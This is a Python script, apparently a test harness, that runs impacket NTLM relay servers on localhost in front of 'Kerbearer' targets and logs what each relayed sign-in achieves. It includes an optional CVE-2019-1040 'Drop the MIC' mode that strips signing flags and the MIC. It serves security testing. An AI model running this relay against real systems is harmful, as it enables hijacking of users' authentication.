"""Relays NTLM to Kerbearer, with impacket's own servers and clients, and says what came of each sign-in.

Takes targets as arguments, each `name=url`, and binds a server for each kind of victim in front of each target. Says on
the first line where they listen, and then a line of JSON for each sign-in that was passed on. impacket's HTTP client
relays GET only, so the client here sends POST; it also drops the integrity code where the target's name ends in
`-without-mic` (the attack "Drop the MIC", CVE-2019-1040).
"""

import base64
import json
import re
import socket
import ssl
import sys
import threading
from urllib.parse import urlparse

from impacket import ntlm
from impacket.examples.ntlmrelayx.clients.httprelayclient import HTTPRelayClient, HTTPSRelayClient
from impacket.examples.ntlmrelayx.servers import HTTPRelayServer, SMBRelayServer
from impacket.examples.ntlmrelayx.utils.config import NTLMRelayxConfig
from impacket.nt_errors import STATUS_ACCESS_DENIED, STATUS_SUCCESS
from impacket.spnego import SPNEGO_NegTokenResp

REQUEST = json.dumps({"client_id": "sample-client", "scope": "certificate:discover"})
SIGNING = (
    ntlm.NTLMSSP_NEGOTIATE_SIGN
    | ntlm.NTLMSSP_NEGOTIATE_ALWAYS_SIGN
    | ntlm.NTLMSSP_NEGOTIATE_KEY_EXCH
    | ntlm.NTLMSSP_NEGOTIATE_VERSION
)
SAYING = threading.Lock()


def say(what):
    with SAYING:
        print(json.dumps(what), flush=True)


class Challenge(ntlm.NTLMAuthChallenge):
    """As it came: impacket writes it anew without the version, and then curl finds nothing where it is said to be."""

    def __init__(self, message):
        super().__init__()
        self.message = message
        self.fromString(message)

    def getData(self):
        return self.message


class Post:
    """Mixed into impacket's clients: the same relay, by POST."""

    def ask(self, message):
        headers = {
            "Content-Type": "application/json",
            "Authorization": "NTLM " + base64.b64encode(message).decode(),
        }
        self.session.request("POST", self.path, REQUEST, headers)
        answer = self.session.getresponse()
        return answer, answer.read()

    def sendNegotiate(self, message):
        if self.serverConfig.remove_mic:
            negotiate = ntlm.NTLMAuthNegotiate()
            negotiate.fromString(message)
            negotiate["flags"] &= ~SIGNING
            message = negotiate.getData()
        answer, _ = self.ask(message)
        found = re.search("NTLM ([a-zA-Z0-9+/]+={0,2})", answer.getheader("WWW-Authenticate") or "")
        if not found:
            say({"target": self.serverConfig.name, "fault": "no challenge, but %d" % answer.status})
            return False
        return Challenge(base64.b64decode(found.group(1)))

    def sendAuth(self, blob, serverChallenge=None):
        token = blob if blob.startswith(b"NTLMSSP\0") else SPNEGO_NegTokenResp(blob)["ResponseToken"]
        message = ntlm.NTLMAuthChallengeResponse()
        message.fromString(token)
        said = self.said_by(message)
        if self.serverConfig.remove_mic:
            message["flags"] &= ~SIGNING
            message["MIC"] = b""
            message["MICLen"] = 0
            message["Version"] = b""
            message["VersionLen"] = 0
            token = message.getData()
        answer, body = self.ask(token)
        said.update(status=answer.status, answer=json.loads(body))
        say(said)
        return None, STATUS_SUCCESS if answer.status == 200 else STATUS_ACCESS_DENIED

    def said_by(self, message):
        pairs = ntlm.AV_PAIRS(message["ntlm"][44:])
        values = {
            "targetName": pairs[ntlm.NTLMSSP_AV_TARGET_NAME],
            "binding": pairs[ntlm.NTLMSSP_AV_CHANNEL_BINDINGS],
            "flags": pairs[ntlm.NTLMSSP_AV_FLAGS],
        }
        said = {key: value[1].hex() for key, value in values.items() if value}
        if values["targetName"]:
            said["targetName"] = values["targetName"][1].decode("utf-16le")
        return {"target": self.serverConfig.name, **said}


class Http(Post, HTTPRelayClient):
    pass


class Https(Post, HTTPSRelayClient):
    pass


class OnlyTarget:
    """The same for everybody, however often: impacket's own leaves a target alone once it has let somebody in."""

    def __init__(self, url):
        self.url = urlparse(url)

    def getTarget(self, identity=None, multiRelay=True):
        return self.url

    def logTarget(self, target, gotRelay=False, gotUsername=None):
        pass


def free_port():
    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        return probe.getsockname()[1]


def config(name, url):
    relay = NTLMRelayxConfig()
    relay.name = name
    relay.mode = "RELAY"
    relay.target = OnlyTarget(url)
    relay.interfaceIp = "127.0.0.1"
    relay.listeningPort = free_port()
    relay.smb2support = True
    relay.disableMulti = True
    relay.remove_mic = name.endswith("-without-mic")
    relay.attacks = {}
    relay.protocolClients = {"HTTP": Http, "HTTPS": Https}
    return relay


class HttpsRelayServer(HTTPRelayServer):
    """impacket's HTTP server, under TLS."""

    def __init__(self, relay, certificate, key):
        super().__init__(relay)
        self.tls = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
        self.tls.load_cert_chain(certificate, key)

    def run(self):
        server = self.HTTPServer((self.config.interfaceIp, self.config.listeningPort), self.HTTPHandler, self.config)
        server.socket = self.tls.wrap_socket(server.socket, server_side=True)
        server.serve_forever()


def main(certificate, key, targets):
    # So that nobody is refused because a place in time wait is still taken.
    HTTPRelayServer.HTTPServer.allow_reuse_address = True
    ports = {}
    for target in targets:
        name, url = target.split("=", 1)
        smb, http, https = (config(name, url) for _ in range(3))
        for server in (SMBRelayServer(smb), HTTPRelayServer(http), HttpsRelayServer(https, certificate, key)):
            server.daemon = True
            server.start()
        ports[name] = {"smb": smb.listeningPort, "http": http.listeningPort, "https": https.listeningPort}
    for each in ports.values():
        for port in each.values():
            while True:
                try:
                    socket.create_connection(("127.0.0.1", port), 10).close()
                    break
                except ConnectionRefusedError:
                    continue
    say(ports)
    # Ends with whoever started it.
    sys.stdin.read()


main(sys.argv[1], sys.argv[2], sys.argv[3:])
